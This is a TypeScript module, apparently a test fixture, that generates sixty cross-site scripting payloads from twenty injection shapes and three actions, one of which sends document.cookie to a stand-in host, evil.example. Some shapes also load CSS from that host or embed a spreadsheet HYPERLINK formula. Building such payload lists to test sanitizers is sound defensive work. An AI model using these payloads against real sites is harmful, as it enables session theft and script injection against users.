/** Each sets `window.stolen`, opens a dialog or asks another host, if anything of it ever runs. */
const ACTS = ['window.stolen=1', 'alert(1)', "fetch('//evil.example/'+document.cookie)"];

const SHAPES: ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<iframe srcdoc="<script>${act}</script>">`,
  (act) => `<a href="javascript:${act}">задание</a>`,
  (act) => `javascript:${act}`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<math><mtext><img src=x onerror="${act}"></mtext></math>`,
  (act) => `<style>@import '//evil.example/a.css'</style><b onclick="${act}">b</b>`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `<object data="data:text/html,<script>${act}</script>">`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<body onload="${act}">`,
  (act) => `{ $x -> *[other] <script>${act}</script> }`,
  (act) => `#set page(fill: red) <img src="x" onerror="${act}"> =HYPERLINK("//evil.example")`,
];

/** Sixty texts that try to be more than text. */
export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape) => ACTS.map(shape));
